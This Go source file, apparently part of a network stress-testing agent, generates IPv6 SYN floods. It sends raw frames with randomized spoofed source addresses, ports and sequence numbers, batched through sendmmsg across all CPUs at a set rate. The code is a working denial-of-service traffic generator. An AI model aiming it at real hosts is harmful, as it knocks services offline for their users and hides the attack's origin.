package agent

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"
	"runtime"
	"sync"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"scaffold.dev/scaffold/internal/packet/header"
)

// A Flood is SYNs at a rate, each from another address and port, put on the wire below everything that the
// host's own kernel would say to it.
type Flood struct {
	Device string
	Router net.HardwareAddr // next hop
	From   netip.Prefix     // sources: its bits, and random ones
	To     netip.AddrPort
	Rate   int // SYNs a second
}

// The parts of a SYN's frame.
const (
	ethLen    = header.EthernetLen
	ip6Len    = header.IPv6Len
	synLen    = 24 // with an MSS
	synFrame  = ethLen + ip6Len + synLen
	synsAHand = 32 // of one system call
)

// attackerMAC is where the frames of floods and storms say that they come from.
var attackerMAC = []byte{2, 0, 0, 0, 0, 0x66}

type mmsghdr struct {
	unix.Msghdr
	_ [2]uint32 // how much was sent, and the padding
}

// Run sends for d and says how many went out and how long it took. Each processor sends its part: what the kernel does
// with a SYN on this machine it does at once, on the processor that sent it, so that one alone would not get more out
// than it can take in.
func (f *Flood) Run(ctx context.Context, d time.Duration) (Result, error) {
	cpus, err := processors()
	if err != nil {
		return Result{}, err
	}
	parts, errs := make([]Result, len(cpus)), make([]error, len(cpus))
	var group sync.WaitGroup
	for i, cpu := range cpus {
		group.Go(func() {
			part := *f
			part.Rate = max(1, f.Rate/len(cpus))
			parts[i], errs[i] = part.runOn(ctx, cpu, d)
		})
	}
	group.Wait()
	all := parts[0]
	for _, r := range parts[1:] {
		all.Ops, all.Lost, all.Nanos = all.Ops+r.Ops, all.Lost+r.Lost, max(all.Nanos, r.Nanos)
	}
	return all, errors.Join(errs...)
}

// processors are those that this process may run on.
func processors() (list []int, err error) {
	var set unix.CPUSet
	if err := unix.SchedGetaffinity(0, &set); err != nil {
		return nil, err
	}
	for cpu := 0; len(list) < set.Count(); cpu++ {
		if set.IsSet(cpu) {
			list = append(list, cpu)
		}
	}
	return list, nil
}

// runOn is Run on one processor.
func (f *Flood) runOn(ctx context.Context, cpu int, d time.Duration) (r Result, err error) {
	runtime.LockOSThread() // never unlocked: the thread ends with the goroutine
	var set unix.CPUSet
	set.Set(cpu)
	if err := unix.SchedSetaffinity(0, &set); err != nil {
		return r, fmt.Errorf("send from processor %d: %w", cpu, err)
	}
	fd, err := openDevice(f.Device)
	if err != nil {
		return r, err
	}
	defer unix.Close(fd)
	h := newHandful(f)
	return atRate(ctx, f.Device, d, f.Rate, synsAHand, func() (int, unix.Errno) { return h.send(fd) })
}

// A handful is SYNs that go out by one system call.
type handful struct {
	flood  *Flood
	sum    uint64
	random *rand.Rand
	frames [synsAHand][synFrame]byte
	iov    [synsAHand]unix.Iovec
	all    [synsAHand]mmsghdr
}

func newHandful(f *Flood) *handful {
	h := &handful{flood: f, random: rand.New(rand.NewPCG(rand.Uint64(), rand.Uint64()))}
	h.frames[0], h.sum = f.template()
	for i := range h.all {
		h.frames[i] = h.frames[0]
		h.iov[i] = unix.Iovec{Base: &h.frames[i][0]}
		h.iov[i].SetLen(synFrame)
		h.all[i].Iov = &h.iov[i]
		h.all[i].SetIovlen(1)
	}
	return h
}

// send makes each another one and sends them.
func (h *handful) send(fd int) (int, unix.Errno) {
	for i := range h.frames {
		h.flood.vary(&h.frames[i], h.sum, h.random)
	}
	n, _, e := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&h.all)), synsAHand, 0, 0, 0)
	runtime.KeepAlive(h)
	return int(n), e
}

// template is a SYN whose source and sequence number are zero, and the sum for its checksum.
func (f *Flood) template() (b [synFrame]byte, sum uint64) {
	syn := header.Segment{Dst: f.To.Port(), Flags: header.SYN, Window: 65535, Options: []byte{2, 4, 5, 0x78}} // MSS 1400
	all := header.AppendEthernet(nil, f.Router, attackerMAC)
	all = header.AppendIPv6(all, netip.IPv6Unspecified(), f.To.Addr(), header.TCP, 64, synLen)
	copy(b[:], syn.Append(all))
	sum = words(b[ethLen+24:]) + synLen + header.TCP
	return b, sum
}

// vary gives a SYN another source, port and sequence number. In a socketID the top bit is set.
func (f *Flood) vary(b *[synFrame]byte, sum uint64, random *rand.Rand) {
	ip, tcp := b[ethLen:], b[ethLen+ip6Len:]
	from := f.From.Addr().As16()
	bits := f.From.Bits()
	high, low := random.Uint64(), random.Uint64()|1<<63
	if bits <= 64 {
		high = high&(1<<(64-bits)-1) | binary.BigEndian.Uint64(from[:])
	}
	binary.BigEndian.PutUint64(ip[8:], high)
	binary.BigEndian.PutUint64(ip[16:], low)
	binary.BigEndian.PutUint16(tcp, uint16(1024+random.IntN(60000)))
	binary.BigEndian.PutUint32(tcp[4:], random.Uint32())
	sum += words(ip[8:24]) + words(tcp[:2]) + words(tcp[4:8])
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	binary.BigEndian.PutUint16(tcp[16:], ^uint16(sum))
}

// words sums an even number of bytes for a checksum.
func words(b []byte) (sum uint64) {
	for ; len(b) > 1; b = b[2:] {
		sum += uint64(binary.BigEndian.Uint16(b))
	}
	return sum
}
